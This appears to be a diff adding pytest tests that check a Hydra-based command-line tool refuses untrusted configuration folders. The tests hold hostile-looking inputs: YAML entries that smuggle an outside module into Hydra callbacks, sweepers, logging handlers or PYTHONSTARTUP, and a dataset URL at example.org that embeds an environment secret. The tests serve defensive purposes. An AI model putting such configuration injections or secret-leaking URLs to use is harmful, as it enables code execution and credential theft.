@@ -1,0 +1,67 @@
+"""A folder of configuration from somebody else runs no code and reads no secrets."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.papers.command_line import Command
+
+WORDS = ("--config-dir", "mine", "task=list")
+
+
+def write(path: str, text: str) -> None:
+    Path(path).parent.mkdir(parents=True, exist_ok=True)
+    Path(path).write_text(text)
+
+
+def refusal(command: Command, *words: str) -> str:
+    answer = command(*words)
+    assert answer.code == 2
+    return answer.err
+
+
+@pytest.fixture
+def code(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A module that leaves a file where it is imported."""
+    (tmp_path / "their_code.py").write_text("import pathlib\npathlib.Path('ran').touch()\n")
+    monkeypatch.syspath_prepend(str(tmp_path))
+    return tmp_path / "ran"
+
+
+def test_a_runner_from_elsewhere_is_imported_only_if_allowed(command: Command, code: Path) -> None:
+    write("mine/experiment/trimming/theirs.yaml", "# @package _global_\nrunner: their_code:Theirs\n")
+    words = (*WORDS, "experiment=trimming/theirs")
+    assert "add --allow-code=their_code" in refusal(command, *words)
+    assert not code.exists()
+    assert "no attribute 'Theirs'" in refusal(command, *words, "--allow-code=their_code")
+    assert code.exists()
+    assert "--allow-code must name a module" in refusal(command, *WORDS, "--allow-code=")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "hydra: {callbacks: {theirs: {_target_: their_code.run}}}",
+        "hydra: {job: {env_set: {PYTHONSTARTUP: their_code.py}}}",
+        "hydra: {sweeper: {_target_: their_code.run}}",
+        "hydra: {job_logging: {version: 1, handlers: {theirs: {class: their_code.run}}}}",
+    ],
+)
+def test_settings_of_hydra_are_refused(command: Command, code: Path, text: str) -> None:
+    write("mine/experiment/trimming/theirs.yaml", f"# @package _global_\n{text}\n")
+    for words in (WORDS, ("-m", *WORDS, "seed=1,2")):
+        assert "must not set hydra." in refusal(command, *words, "experiment=trimming/theirs")
+    assert not code.exists()
+
+
+def test_a_configuration_reads_only_documented_variables(command: Command, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("THEIR_SECRET", "s3cret")
+    address = "https://example.org/${oc.env:THEIR_SECRET}"
+    file = f"{{path: x/x.csv, url: '{address}', sha256: '{'0' * 64}'}}"
+    write("mine/dataset/theirs.yaml", f"kind: csv\ntarget: c\nfile: {file}\n")
+    words = ("--config-dir", "mine", "task=fetch", "experiment=conformant/digits", "datasets=[theirs]")
+    told = refusal(command, *words)
+    assert "TRIMBENCH_CACHE" in told
+    assert "s3cret" not in told
